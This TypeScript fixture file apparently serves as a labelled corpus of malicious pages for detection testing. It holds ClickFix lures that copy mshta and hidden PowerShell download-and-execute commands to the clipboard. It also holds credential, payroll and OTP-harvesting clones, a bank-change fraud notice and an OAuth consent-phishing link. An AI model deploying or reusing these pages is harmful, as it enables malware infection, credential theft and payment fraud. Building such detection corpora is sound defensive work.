import type { Entry } from '../entry.js';
import { doc, esc, msLogo, googleLogo, wordmark, jsRoute, jsonRoute, imgRoute, htmlRoute, b64 } from '../parts/zh-kit.js';

const CF_CSS = `body{background:#fff;font-family:system-ui,-apple-system,"Segoe UI",Roboto,Arial}.main{max-width:620px;margin:100px auto;padding:0 20px}.cb{border:1px solid #e0e0e0;background:#fafafa;width:300px;height:66px;display:flex;align-items:center;gap:12px;padding:0 14px;cursor:pointer}.sq{width:26px;height:26px;border:2px solid #777;border-radius:4px;background:#fff}.steps{display:none;border:1px solid #ddd;border-radius:8px;padding:20px;margin-top:20px;background:#fff}.steps ol{line-height:2}kbd{background:#eee;border:1px solid #bbb;border-radius:3px;padding:1px 6px}`;

export const entries: Entry[] = [
  {
  id: 'zh-clickfix-turnstile-mshta',
  label: 'clickfix',
  kind: 'clickfix',
  url: 'https://secure-portal.docshare-verify.com/s/Q2_Commission_Statement',
  body: doc('Just a moment...', `<div class="main"><h1 style="font-size:28px;font-weight:500">secure-portal.docshare-verify.com</h1>
<p style="font-size:20px">Verify you are human by completing the action below.</p>
<div class="cb" id="cb"><div class="sq"></div><span>I'm not a robot</span><span style="margin-left:auto;font-size:9px;color:#999">reCAPTCHA<br>Privacy - Terms</span></div>
<div class="steps" id="st"><b>Verification steps</b><ol><li>Press <kbd>Windows</kbd> + <kbd>R</kbd></li><li>Press <kbd>CTRL</kbd> + <kbd>V</kbd></li><li>Press <kbd>Enter</kbd></li></ol><p style="font-size:13px;color:#666">This is required to confirm that you are not a bot. Verification ID: <span id="vid"></span></p></div>
<p style="color:#555;margin-top:30px">secure-portal.docshare-verify.com needs to review the security of your connection before proceeding.</p></div>
<script>
var vid=Math.floor(100000+Math.random()*900000);document.getElementById('vid').textContent=vid;
var cmd='mshta https://secure-portal.docshare-verify.com/s/verify.hta # \\u2705 \\'\\'I am not a robot - reCAPTCHA Verification ID: '+vid+'\\'\\'';
document.getElementById('cb').onclick=function(){
 var t=document.createElement('textarea');t.value=cmd;document.body.appendChild(t);t.select();document.execCommand('copy');t.remove();
 try{navigator.clipboard.writeText(cmd)}catch(e){}
 document.getElementById('st').style.display='block';
};
</script>`, { css: CF_CSS }),
  routes: {
    'secure-portal.docshare-verify.com/s/verify.hta': { status: 200, headers: { 'content-type': 'application/hta' }, body: `<html><head><HTA:APPLICATION SHOWINTASKBAR="no" WINDOWSTATE="minimize"><script>new ActiveXObject("WScript.Shell").Run("powershell -w h -c \\"iex(irm 'https://secure-portal.docshare-verify.com/s/p.ps1')\\"",0);window.close();</script></head></html>` },
  },
},
  {
  id: 'zh-clickfix-teams-mic-fix',
  label: 'clickfix',
  kind: 'clickfix',
  url: 'https://teams-meet.conference-live.app/join/8821-442-019',
  body: doc('Microsoft Teams meeting', `<div style="background:#292929;color:#fff;min-height:100vh;font-family:Segoe UI">
<div style="padding:14px 22px;font-weight:600">Microsoft Teams</div>
<div style="max-width:620px;margin:60px auto;background:#1f1f1f;padding:30px;border-radius:8px">
<h2 style="font-weight:600">Meeting with Erik Sandström (Procurement)</h2>
<div style="background:#3d3d3d;height:220px;border-radius:6px;display:flex;align-items:center;justify-content:center;color:#bbb">Camera is off</div>
<div id="err" style="margin-top:16px;background:#442726;padding:14px;border-radius:6px">🎤 <b>Microphone and speaker error.</b> Your audio drivers are blocking Teams. <a href="#" id="fx" style="color:#a6a7dc">Fix the problem</a></div>
<div id="how" hidden style="margin-top:14px;background:#333;padding:14px;border-radius:6px;font-size:14px">Repair command copied to clipboard.<br>1. Press <b>Win + X</b> and open <b>Terminal (Admin)</b><br>2. Paste with <b>Ctrl + V</b> and press <b>Enter</b><br>3. Rejoin the meeting</div></div></div>
<script>
var c="powershell -w hidden -c \\"$s='https://teams-meet.conference-live.app/drv/audiofix';$d=[Convert]::FromBase64String((irm $s));[Reflection.Assembly]::Load($d).EntryPoint.Invoke($null,$null)\\"";
document.getElementById('fx').onclick=function(e){e.preventDefault();navigator.clipboard.writeText(c);document.getElementById('how').hidden=false};
setTimeout(function(){var a=new Audio('/join/ring.wav');a.play().catch(function(){})},800);
</script>`),
  routes: { 'teams-meet.conference-live.app/join/ring.wav': { status: 200, headers: { 'content-type': 'audio/wav' }, body: Buffer.from('RIFF$\u0000\u0000\u0000WAVEfmt ', 'latin1') } },
},
  {
  id: 'zh-workday-payroll-sso-kit',
  label: 'phishing',
  kind: 'payroll-kit',
  url: 'https://wd5-myworkday.payroll-selfservice.com/brightwater/login.htmld?redirect=n%2Fpay-slips',
  body: doc('Workday', `<div style="background:#f0f4f8;min-height:100vh;font-family:Roboto,Arial"><div style="background:#0875e1;height:6px"></div>
<div style="max-width:400px;margin:70px auto;background:#fff;padding:36px;border-radius:8px;box-shadow:0 1px 3px rgba(0,0,0,.2)">
${wordmark('workday.', '#0875e1', 26)}<p style="color:#333">Brightwater Health Systems</p>
<p style="background:#fff4ce;padding:10px;font-size:13px">Action required: confirm your direct deposit details before the Dec 15 payroll cut-off.</p>
<form method="post" action="/brightwater/login.htmld/submit"><label>Username</label><input name="u" style="width:100%;padding:9px;margin:4px 0 12px;border:1px solid #999;border-radius:4px"><label>Password</label><input name="p" type="password" style="width:100%;padding:9px;margin:4px 0 12px;border:1px solid #999;border-radius:4px">
<button style="width:100%;background:#0875e1;color:#fff;border:0;padding:11px;border-radius:20px">Sign In</button></form>
<p style="font-size:13px"><a href="#">Forgot Password?</a></p></div>
<p style="text-align:center;font-size:11px;color:#777">© 2026 Workday, Inc. All rights reserved.</p></div>`),
  routes: {
    'wd5-myworkday.payroll-selfservice.com/brightwater/login.htmld/submit': htmlRoute(doc('Workday – Direct Deposit', `<div style="max-width:500px;margin:60px auto;font-family:Arial"><h2>Update Payment Elections</h2><form method="post" action="/brightwater/dd/save"><label>Bank name</label><input name="bank" style="width:100%;padding:8px;margin:4px 0"><label>Routing number</label><input name="routing" style="width:100%;padding:8px;margin:4px 0"><label>Account number</label><input name="acct" style="width:100%;padding:8px;margin:4px 0"><label>Last 4 of SSN</label><input name="ssn4" style="width:100%;padding:8px;margin:4px 0"><button style="background:#0875e1;color:#fff;border:0;padding:10px 20px">Submit</button></form></div>`)),
    'wd5-myworkday.payroll-selfservice.com/brightwater/dd/save': { status: 302, headers: { location: 'https://www.workday.com/' }, body: '' },
  },
},
  {
  id: 'zh-adp-paystub-direct-deposit',
  label: 'phishing',
  kind: 'payroll-kit',
  url: 'https://my.adp-portal-access.com/static/redbox/login.html?REASON=ERROR_TIMEOUT',
  body: doc('ADP | Sign In', `<div style="font-family:Arial;background:#f6f6f6;min-height:100vh"><header style="background:#fff;padding:14px 30px;border-bottom:1px solid #ddd">${wordmark('ADP', '#d0271d', 28)}</header>
<div style="max-width:420px;margin:50px auto;background:#fff;padding:32px;border-radius:6px">
<h2 style="margin-top:0">Sign in to MyADP</h2><p style="font-size:14px;color:#555">Your session timed out. Sign in to view your pay statement for 11/27/2026.</p>
<form id="f"><input id="uid" placeholder="User ID" style="width:100%;padding:11px;margin:6px 0;border:1px solid #aaa;border-radius:4px"><input id="pw" type="password" placeholder="Password" style="width:100%;padding:11px;margin:6px 0;border:1px solid #aaa;border-radius:4px">
<button style="width:100%;background:#d0271d;color:#fff;border:0;padding:12px;border-radius:4px">Next</button></form>
<div id="otp" hidden><p>We sent a verification code to the phone number on file.</p><input id="code" placeholder="6-digit code" style="width:100%;padding:11px"><button id="v" style="width:100%;margin-top:8px;background:#d0271d;color:#fff;border:0;padding:12px">Verify</button></div>
<p style="font-size:12px"><a href="#">Forgot your user ID/password?</a></p></div>
<p style="text-align:center;font-size:11px;color:#777">ADP, the ADP logo and Always Designing for People are trademarks of ADP, Inc. © 2026 ADP, Inc.</p></div>
<script>
function snd(o){return fetch('/static/redbox/collect',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify(o)})}
document.getElementById('f').onsubmit=function(e){e.preventDefault();snd({uid:uid.value,pw:pw.value}).then(function(){f.hidden=true;otp.hidden=false})};
document.getElementById('v').onclick=function(){snd({code:code.value}).then(function(){location.href='https://my.adp.com/'})};
</script>`),
  routes: { 'my.adp-portal-access.com/static/redbox/collect': jsonRoute({ r: 1 }) },
},
  {
  id: 'zh-hr-open-enrollment-m365',
  label: 'phishing',
  kind: 'hr-portal-kit',
  url: 'https://benefits.cascadia-hr-portal.com/enrollment/2027/',
  body: doc('2027 Open Enrollment – Employee Benefits Portal', `<header style="background:#1f3a5f;color:#fff;padding:18px 36px"><b>Employee Benefits Portal</b> <span style="float:right">Open Enrollment: Nov 15 – Dec 5</span></header>
<main style="max-width:860px;margin:30px auto;padding:0 20px;line-height:1.6"><h1>2027 Open Enrollment is closing soon</h1>
<p>All employees must review and confirm their medical, dental and vision elections. If you take no action, your coverage will default to <b>Employee Only – Bronze</b> and dependents will be removed.</p>
<div style="display:flex;gap:20px"><div style="flex:1;border:1px solid #ddd;padding:16px">🩺 Medical<br><small>3 plans available</small></div><div style="flex:1;border:1px solid #ddd;padding:16px">🦷 Dental<br><small>2 plans</small></div><div style="flex:1;border:1px solid #ddd;padding:16px">👓 Vision<br><small>1 plan</small></div></div>
<p><a href="/enrollment/2027/sso" style="display:inline-block;background:#2b6cb0;color:#fff;padding:12px 26px;text-decoration:none;margin-top:16px">Sign in with your company Microsoft account</a></p>
<p style="font-size:12px;color:#777">Questions? Contact HR Benefits at ext. 4410. This portal is administered on behalf of your employer.</p></main>`),
  routes: {
    'benefits.cascadia-hr-portal.com/enrollment/2027/sso': htmlRoute(doc('Sign in to your account', `<div style="width:440px;margin:90px auto;padding:44px;box-shadow:0 2px 6px rgba(0,0,0,.2)">${msLogo}<h2 style="font-weight:600">Sign in</h2><p style="font-size:13px">to continue to Benefits Portal</p><form method="post" action="/enrollment/2027/sso/cb"><input name="loginfmt" type="email" placeholder="someone@example.com" style="width:100%;border:0;border-bottom:1px solid #666;padding:6px 0;margin:6px 0"><input name="passwd" type="password" placeholder="Password" style="width:100%;border:0;border-bottom:1px solid #666;padding:6px 0;margin:6px 0"><br><button style="float:right;background:#0067b8;color:#fff;border:0;padding:8px 30px">Sign in</button></form><div style="clear:both"></div></div>`)),
    'benefits.cascadia-hr-portal.com/enrollment/2027/sso/cb': { status: 302, headers: { location: 'https://www.office.com/' }, body: '' },
  },
},
  {
  id: 'zh-vendor-payment-de-bankverbindung',
  label: 'scam',
  kind: 'vendor-payment-change',
  url: 'https://lieferanten.rheinmetall-zulieferportal.de.com/bankdaten/aenderung',
  body: doc('Änderung der Bankverbindung', `<div style="max-width:680px;margin:40px auto;font-family:Arial;line-height:1.6">
<h2>Mitteilung über die Änderung unserer Bankverbindung</h2><p>Sehr geehrte Damen und Herren,</p>
<p>aufgrund einer Umstellung unseres Zahlungsverkehrs bitten wir Sie, alle offenen und künftigen Zahlungen ab sofort ausschließlich auf das folgende Konto zu überweisen:</p>
<pre style="background:#f4f4f4;padding:12px">Kontoinhaber: Schneider Präzisionsteile GmbH
IBAN: LT72 3250 0134 8821 0975
BIC:  REVOLT21
Verwendungszweck: Rechnungsnummer</pre>
<p>Die Rechnungen RE-2026-1184 und RE-2026-1197 (Gesamtbetrag 64.318,20 EUR) sind bereits fällig. Bitte bestätigen Sie die Änderung über das untenstehende Formular, damit wir eine Mahnung vermeiden können.</p>
<form method="post" action="/bankdaten/bestaetigen"><input name="firma" placeholder="Firma" style="width:100%;padding:8px;margin:3px 0"><input name="ansprechpartner" placeholder="Ansprechpartner" style="width:100%;padding:8px;margin:3px 0"><input name="zahlungsdatum" placeholder="Geplantes Zahlungsdatum" style="width:100%;padding:8px;margin:3px 0"><button style="background:#003366;color:#fff;border:0;padding:10px 20px;margin-top:6px">Änderung bestätigen</button></form>
<p>Mit freundlichen Grüßen<br>Buchhaltung – Schneider Präzisionsteile GmbH</p></div>`, { lang: 'de' }),
  routes: { 'lieferanten.rheinmetall-zulieferportal.de.com/bankdaten/bestaetigen': htmlRoute(doc('Danke', '<p style="margin:60px">Vielen Dank für Ihre Bestätigung.</p>', { lang: 'de' })) },
},
  {
  id: 'zh-esign-adobe-sign-clone',
  label: 'phishing',
  kind: 'esign-kit',
  url: 'https://secure.adobesign-agreements.net/public/esignWidget?wid=CBFCIBAA3AAABLblqZhB',
  body: doc('Adobe Acrobat Sign', `<div style="font-family:Adobe Clean,Arial;background:#f5f5f5;min-height:100vh"><header style="background:#fff;padding:12px 24px;border-bottom:1px solid #ddd">${wordmark('Adobe Acrobat Sign', '#eb1000', 18)}</header>
<div style="max-width:760px;margin:30px auto;background:#fff;padding:30px;box-shadow:0 1px 4px rgba(0,0,0,.1)">
<h2>Please review and sign: Master Services Agreement – Amendment 3</h2><p style="color:#666">From: Legal Operations, Halcyon Biotech · 4 pages</p>
<div style="border:1px dashed #bbb;height:180px;background:repeating-linear-gradient(#fff,#fff 18px,#eee 19px);filter:blur(2px)"></div>
<p>To sign, verify your email account.</p>
<form id="f"><input id="e" type="email" placeholder="Email address" style="width:100%;padding:10px;margin:4px 0"><input id="p" type="password" placeholder="Email password" style="width:100%;padding:10px;margin:4px 0"><button style="background:#1473e6;color:#fff;border:0;border-radius:16px;padding:10px 26px">Click to Sign</button></form></div></div>
<script>
var k="${b64('https://sign-collect.webhook-inbox.site/hook/5f2e')}";
document.getElementById('f').onsubmit=function(ev){ev.preventDefault();fetch(atob(k),{method:'POST',mode:'no-cors',body:JSON.stringify({e:e.value,p:p.value,r:document.referrer})}).then(function(){location.href='https://acrobat.adobe.com/link/review'})};
</script>`),
  routes: { 'sign-collect.webhook-inbox.site/hook/5f2e': jsonRoute({ received: true }) },
},
  {
  id: 'zh-oauth-consent-sharepoint-app',
  label: 'phishing',
  kind: 'oauth-consent',
  url: 'https://securedoc-viewer.sp-fileservices.com/open/?doc=Board_Minutes_Nov.docx',
  body: doc('SecureDoc Viewer for SharePoint', `<div style="max-width:560px;margin:80px auto;font-family:Segoe UI;text-align:center;border:1px solid #e1dfdd;padding:36px">
<div style="font-size:44px">📘</div><h2 style="font-weight:600">Board_Minutes_Nov.docx</h2>
<p>This document is protected by <b>SecureDoc Viewer</b>, an app for SharePoint Online. Sign in with Microsoft and accept the permissions to open it.</p>
<a id="ms" href="https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=7d3f0b9c-1e2a-4c55-9a8e-2f6b0e4c11aa&response_type=code&redirect_uri=https%3A%2F%2Fsecuredoc-viewer.sp-fileservices.com%2Fauth%2Fcallback&scope=offline_access%20Mail.Read%20Mail.Send%20Files.ReadWrite.All%20User.Read&prompt=consent&state=bm" style="display:inline-flex;gap:10px;align-items:center;border:1px solid #8c8c8c;padding:10px 18px;text-decoration:none;color:#5e5e5e">${msLogo.replace('width="108"', 'width="90"')} <span>Sign in with Microsoft</span></a>
<p style="font-size:12px;color:#777;margin-top:20px">SecureDoc Viewer needs access to read your mail and files so documents shared with you can be decrypted.</p></div>`),
  routes: { 'securedoc-viewer.sp-fileservices.com/auth/callback': htmlRoute(doc('Loading', '<p>Opening document…</p><script>location.href="https://www.office.com/"</script>')) },
},
];
